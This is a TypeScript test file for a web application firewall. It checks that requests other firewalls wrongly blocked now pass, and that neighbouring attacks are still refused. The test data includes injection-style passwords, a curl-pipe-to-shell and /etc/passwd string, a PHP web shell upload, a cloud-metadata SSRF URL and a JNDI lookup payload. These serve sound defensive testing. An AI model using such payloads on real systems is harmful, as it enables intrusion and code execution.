import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { loadConfig } from '@postern/config'
import { type Decision, type Engine, VirtualClock } from '@postern/core'
import { buildEngine } from '../src/engine/build-engine.ts'
import { memoryResources } from '../src/resources/open-resources.ts'
import type { Resources } from '../src/resources/resources.ts'

/** One request of a public report, in our own words and with our own data. */
interface Reported {
  /** The report, and whose request it is. */
  readonly report: string
  readonly method?: string
  readonly target: string
  readonly headers?: readonly string[]
  readonly body?: string | Uint8Array
}

const JSON_TYPE = ['Content-Type', 'application/json']
const FORM_TYPE = ['Content-Type', 'application/x-www-form-urlencoded']

/** Bytes as compressed data has them, the same in every run (xorshift32). */
function noise(length: number): Uint8Array {
  let state = 0x9e3779b9
  return Uint8Array.from({ length }, () => {
    state ^= state << 13
    state ^= state >>> 17
    state ^= state << 5
    return state & 0xff
  })
}

/** Passwords of all ASCII symbols that were taken for attacks. */
const PASSWORDS = ["Tr'#9kx{{..Lq", 'a|nl8$Kz<?m', "x' OR 1=1", 'pw";ls -la', '$(id)8Kq', "9'/*!x*/--"]

/** What somebody asks about attacks. */
const ABOUT_ATTACKS =
  'Is it safe to run `curl -s https://get.example/x | sh`? The log says <script>alert(1)</script>; cat /etc/passwd.'

/** A part of a form with a file in it. */
function upload(filename: string, type: string, content: string): Pick<Reported, 'headers' | 'body'> {
  return {
    headers: ['Content-Type', 'multipart/form-data; boundary=cut'],
    body: `--cut\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--cut--\r\n`,
  }
}

/** Requests that other firewalls refused, by their own public reports. */
const REFUSED_ELSEWHERE: readonly Reported[] = [
  {
    report: 'an OData filter of a sync client (Datasync 369)',
    target:
      '/tables/todo?$filter=%28%28accountId%20eq%20%27010101%27%29%20and%20%28updatedAt%20gt%20cast%282026-05-22T07%3A07%3A07.199Z%2CEdm.DateTimeOffset%29%29%29&$orderby=updatedAt&$count=true',
  },
  {
    report: 'nested $expand of OData (CRS 2123)',
    target:
      "/table?$select=a,b&$expand=c($select=d;$expand=g($select=h),i($select=j)),k($select=l)&$filter=n/o%20eq%20'10091595'%20and%20p/q%20eq%200",
  },
  { report: 'a filter of Solr (CRS 2181)', target: '/select?fq=(siteName:%22TEST-%20-2-2%22)' },
  {
    report: 'scopes after a sign-in at Google (CRS 1922)',
    target:
      '/callback.php?state=a1&code=4%2F0AY0e&scope=email+profile+https://www.googleapis.com/auth/userinfo.profile+https://www.googleapis.com/auth/userinfo.email',
  },
  {
    report: 'scripts of Telerik, combined (CRS 1923)',
    target:
      '/Telerik.Web.UI.WebResource.axd?_TSM_HiddenField_=RadScriptManager1_TSM&compress=1&_TSM_CombinedScripts_=%3b%3bSystem.Web.Extensions%2c+Version%3d4.0.0.0%2c+Culture%3dneutral',
  },
  {
    report: 'a click id of an advertisement (CRS 3005)',
    target: '/file/?gclid=j0KCQiA1NebBhDD--mC1jf8fO8PDYJ',
  },
  {
    report: 'a browser that names its settings as JSON (CRS 3732)',
    target: '/',
    headers: ['User-Agent', 'Mozilla/5.0 (iPhone) OcIdWebView ({"os":"iOS","style":2,"isBoldFont":true})'],
  },
  {
    report: "the validation server of Let's Encrypt (CRS 3163)",
    target: '/.well-known/acme-challenge/x-y_z',
    headers: ['User-Agent', "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://x.example)"],
  },
  {
    report: 'the cookie of a sign-in by MSAL (CRS 4222)',
    target: '/',
    headers: ['Cookie', 'msal.interaction.status={"clientId":"11111111-2222","type":"signin"}'],
  },
  {
    report: 'a code of Azure (ModSecurity 2282)',
    method: 'POST',
    target: '/auth/azureactivedirectory/callback',
    headers: FORM_TYPE,
    body: `code=${encodeURIComponent('0.AAAA--x*y!z~$(a)-b;c|d')}&session_state=532f-gds`,
  },
  {
    report: 'a word of SQL after a blank (AWS WAF automations 79)',
    method: 'POST',
    target: '/plan',
    headers: FORM_TYPE,
    body: 'CanSave=True&DeleteRow=0&ValidationMessage=+ON&LastPage=x',
  },
  {
    report: 'JSON that says it is a form (waflz 162)',
    method: 'POST',
    target: '/api',
    headers: FORM_TYPE,
    body: '{"a":"it\'s","b":[1,2],"c":"x=y&z"}',
  },
  {
    report: 'a JSON Patch (naxsi 539)',
    method: 'PATCH',
    target: '/api/x',
    headers: ['Content-Type', 'application/json-patch+json'],
    body: '[{"op":"replace","path":"/a/b~1c","value":"x"},{"op":"remove","path":"/e"}]',
  },
]

const PASSES: readonly Reported[] = [
  ...REFUSED_ELSEWHERE,
  ...[
    'application/x-git-receive-pack-request',
    'application/offset+octet-stream',
    'application/x-protobuf',
    'application/x-unheard-of',
  ].map(type => ({
    report: `G1 compressed bytes as ${type}`,
    method: 'POST',
    target: '/project.git/git-receive-pack',
    headers: ['Content-Type', type],
    body: noise(100_000),
  })),
  ...['PUT', 'PATCH', 'DELETE'].flatMap(method => [
    {
      report: `G3 a save by ${method} in X-HTTP-Method-Override`,
      method: 'POST',
      target: '/wp-json/wp/v2/pages/21?_locale=user',
      headers: ['X-HTTP-Method-Override', method, ...JSON_TYPE],
      body: '{"title":"Lamps"}',
    },
    {
      report: `G3 a save by ${method} in the query`,
      method: 'POST',
      target: `/pages/21?_method=${method.toLowerCase()}`,
      headers: JSON_TYPE,
      body: '{"title":"Lamps"}',
    },
    {
      report: `G3 a save by ${method} in a form`,
      method: 'POST',
      target: '/pages/21',
      headers: FORM_TYPE,
      body: `_method=${method.toLowerCase()}&title=Lamps`,
    },
  ]),
  ...['http://127.0.0.1:51004/callback', 'http://localhost:3000/cb', 'http://[::1]:51004/callback'].flatMap(
    address => [
      {
        report: `G4 a native client comes back to ${address}`,
        target: `/oauth/authorize?response_type=code&client_id=cli&redirect_uri=${encodeURIComponent(address)}`,
      },
      {
        report: `G4 a client registers ${address}`,
        method: 'POST',
        target: '/oauth/register',
        headers: JSON_TYPE,
        body: JSON.stringify({ redirect_uris: [address] }),
      },
      {
        report: `G4 a token for ${address}`,
        method: 'POST',
        target: '/oauth/token',
        headers: FORM_TYPE,
        body: `grant_type=authorization_code&code=abc&redirect_uri=${encodeURIComponent(address)}`,
      },
    ],
  ),
  ...[
    'name=Anna&javax.faces.ViewState=-451%3A67',
    'name=Anna&jakarta.faces.ViewState=-451%3A67',
    'javax.faces.partial.ajax=true&javax.faces.source=form%3Asave&javax.faces.partial.execute=%40all',
    'org.apache.struts.taglib.html.TOKEN=0f1e2d3c4b5a&name=Anna',
    'q=java.lang.NullPointerException',
  ].map(body => ({
    report: `G5 a form of a Java framework: ${body.slice(0, 40)}`,
    method: 'POST',
    target: '/form.xhtml',
    headers: FORM_TYPE,
    body,
  })),
  ...PASSWORDS.map(password => ({
    report: `G6 the password ${password}`,
    method: 'POST',
    target: '/signup',
    headers: JSON_TYPE,
    body: JSON.stringify({ email: 'anna@shop.example', password }),
  })),
  ...[
    ['shop-hours.zip', 'application/zip'],
    ['site.tar', 'application/x-tar'],
    ['course.txt', 'text/plain'],
    ['tutorial.md', 'text/markdown'],
  ].map(([name = '', type = '']) => ({
    report: `G7 an upload of ${name}`,
    method: 'POST',
    target: '/wp-admin/update.php?action=upload-plugin',
    ...upload(name, type, 'Every page starts with <?php echo "hours"; ?> and ends with a footer.'),
  })),
  // agent0ai/agent-zero#990, anthropics/claude-code#64384 and #58294, different-ai/openwork#3419
  ...[
    { target: '/v1/chat-messages', body: { query: ABOUT_ATTACKS, user: 'ann' } },
    { target: '/v1/embeddings', body: { model: 'small', input: [ABOUT_ATTACKS] } },
    { target: '/a2a', body: { params: { message: { parts: [{ kind: 'text', text: ABOUT_ATTACKS }] } } } },
    {
      target: '/mcp',
      body: { method: 'tools/call', params: { name: 'keep', arguments: { thought: ABOUT_ATTACKS } } },
    },
  ].map(({ target, body }) => ({
    report: `G16 a text about attacks, for a model at ${target}`,
    method: 'POST',
    target,
    headers: JSON_TYPE,
    body: JSON.stringify(body),
  })),
  // What forges keep, as in the reports of G1: blame, a browser of files, an editor.
  ...[
    '/ann/app/-/blame/main/config/database.yml',
    '/projects/SHOP/repos/app/browse/.env',
    '/ann/app/_edit/main/.env',
  ].map(target => ({ report: `G17 a file of a forge at ${target}`, target })),
  // coreruleset/coreruleset#3199
  {
    report: 'G18 a document with links under the type of a form',
    method: 'PUT',
    target: '/api/products/308',
    headers: FORM_TYPE,
    body: '<?xml version="1.0"?><shop xmlns:xlink="http://www.w3.org/1999/xlink"><maker xlink:href="https://shop.example/api/makers/1">1</maker></shop>',
  },
]

/** What stands beside a reported false refusal and is an attack: the repair must not let it through. */
const REFUSED: readonly Reported[] = [
  {
    report: 'G3 two wishes for different methods',
    method: 'POST',
    target: '/pages/21?_method=put',
    headers: ['X-HTTP-Method-Override', 'DELETE'],
  },
  {
    report: 'G4 an address that the server fetches itself',
    target: '/fetch?url=http://169.254.169.254/latest',
  },
  {
    report: 'G7 a file that a server would run',
    method: 'POST',
    target: '/upload',
    ...upload('shell.php', 'application/octet-stream', '<?php system($_GET["c"]); ?>'),
  },
  {
    report: 'G16 the same text in a field of another interface',
    method: 'POST',
    target: '/v1/hosts',
    headers: JSON_TYPE,
    body: JSON.stringify({ name: ABOUT_ATTACKS }),
  },
  {
    report: 'G16 a lookup in a text for a model',
    method: 'POST',
    target: '/v1/embeddings',
    headers: JSON_TYPE,
    body: JSON.stringify({ input: ['${jndi:ldap://x.example/a}'] }),
  },
  { report: 'G17 a hidden folder of a repository', target: '/ann/app/_edit/main/.git/config' },
]

describe('requests of public reports, under the default configuration', () => {
  let engine: Engine
  let resources: Resources
  before(async () => {
    const loaded = await loadConfig({ config: {}, folder: '/nowhere', environment: {} })
    resources = await memoryResources(loaded, new VirtualClock())
    engine = buildEngine(loaded, resources, 'serve').engine
  })
  after(() => resources.close())

  let asked = 0
  /** Each request comes from an address of its own, so that none stands in another's shadow. */
  async function ask({ method = 'GET', target, headers = [], body }: Reported): Promise<Decision> {
    asked++
    const bytes = typeof body === 'string' ? new TextEncoder().encode(body) : body
    const exchange = engine.open({
      method,
      target,
      headers: [
        'Host',
        'shop.example',
        'User-Agent',
        'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
        ...(bytes === undefined ? [] : ['Content-Length', String(bytes.length)]),
        ...headers,
      ],
      peer: `203.0.${asked >> 8}.${asked & 255}`,
      secure: true,
      httpVersion: '1.1',
      body:
        bytes === undefined
          ? undefined
          : { read: async limit => ({ bytes: bytes.subarray(0, limit), complete: bytes.length <= limit }) },
      native: undefined,
    })
    const decision = await engine.decide(exchange)
    const status = decision.effect === 'allow' ? 200 : decision.status
    engine.settle(exchange, { status, duration: 1, bytes: 1, aborted: false })
    return decision
  }

  for (const reported of PASSES)
    test(`${reported.report}: passes`, async () => {
      const decision = await ask(reported)
      assert.equal(decision.effect, 'allow', JSON.stringify(decision))
    })

  for (const reported of REFUSED)
    test(`${reported.report}: is refused`, async () => {
      assert.notEqual((await ask(reported)).effect, 'allow')
    })
})
